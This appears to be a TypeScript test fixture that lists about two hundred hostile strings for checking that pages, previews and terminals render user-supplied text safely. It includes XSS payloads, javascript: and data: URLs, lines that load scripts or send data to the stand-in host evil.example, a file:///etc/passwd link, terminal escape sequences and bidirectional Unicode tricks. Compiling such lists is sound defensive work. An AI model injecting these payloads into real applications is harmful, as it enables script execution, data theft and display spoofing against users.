/**
 * Texts that somebody may put into a title, a name, an item or a field so that a page, a preview or a terminal does
 * something: about two hundred, of every kind that has ever worked somewhere.
 */
export function hostileTexts(): readonly string[] {
  return [
    ...scripts,
    ...handlers.flatMap((handler) => hosts.map((host) => `<${host} ${handler}=alert(1)>`)),
    ...breakouts.map((breakout) => `${breakout}<script>alert(1)</script>`),
    ...addresses.flatMap((address) => [
      `<a href="${address}">x</a>`,
      `[x](${address})`,
      `![x](${address})`,
    ]),
    ...drawings,
    ...styles,
    ...terminals,
    ...invisible,
    ...markdown,
  ];
}

const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script\t>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)//',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;script&#x3e;alert(1)',
  '\u003cscript\u003ealert(1)',
  '＜script＞alert(1)＜/script＞',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '<?php echo 1 ?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<plaintext>',
  '<xmp><script>alert(1)</script></xmp>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<table><td background="javascript:alert(1)">',
];

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus onfocus',
  'onmouseover',
  'ontoggle open ontoggle',
  'onanimationstart',
  'onpointerrawupdate',
];

const hosts = [
  'img src=x',
  'svg',
  'body',
  'input',
  'details',
  'video src=x',
  'iframe',
  'custom-tag tabindex=1',
];

const breakouts = [
  '"',
  "'",
  '">',
  "'>",
  '`',
  '"/>',
  '</title>',
  '</style>',
  '</textarea>',
  '</script>',
  '</td></tr></table>',
  '</section>',
  '-->',
  ']]>',
  '" onclick="alert(1)',
  "' onclick='alert(1)",
  '" style="position:fixed;inset:0" x="',
  '" autofocus onfocus="alert(1)" x="',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'command:workbench.action.terminal.new',
  'command:sop.signOff?%5B%7B%7D%5D',
  'vscode://evil.example/x',
  'vscode-insiders:evil',
  'file:///etc/passwd',
  '//evil.example/x',
  'https://evil.example/?leak=1',
];

const drawings = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onload to=alert(1)>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><image href=x onerror=alert(1)></svg>',
];

const styles = [
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<div style="position:fixed;inset:0;background:white">x</div>',
  '<div style=width:expression(alert(1))>x</div>',
  '<form action=//evil.example><button>x</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<div class="sop-banner">Accepted</div>',
];

const terminals = [
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007x',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  '\u001b[2J\u001b[Hx',
  '\u009b31mx',
  '\u001bPq\u001b\\x',
  'x\ry',
  'x\bz',
  'x\u0000y',
  '\u001b[?1049hx',
];

const invisible = [
  'a\u202eb\u202c',
  '\u2066a\u2069b',
  '\u061ca',
  'a\u200bb',
  'a\ufeffb',
  'a\u00adb',
  'a\u2028b',
  'a\u2029b',
  '\u{e0041}a',
  '\ud800a',
];

const markdown = [
  '| a | b |',
  '`<img src=x onerror=alert(1)>`',
  '``` \n<script>alert(1)</script>',
  '<https://evil.example>',
  'https://evil.example',
  '@dana #1',
  '[x]: javascript:alert(1)',
  '# heading',
  '- [ ] item',
  '> quote',
  '![](x"onerror="alert(1))',
  '[![x](x)](command:x)',
];
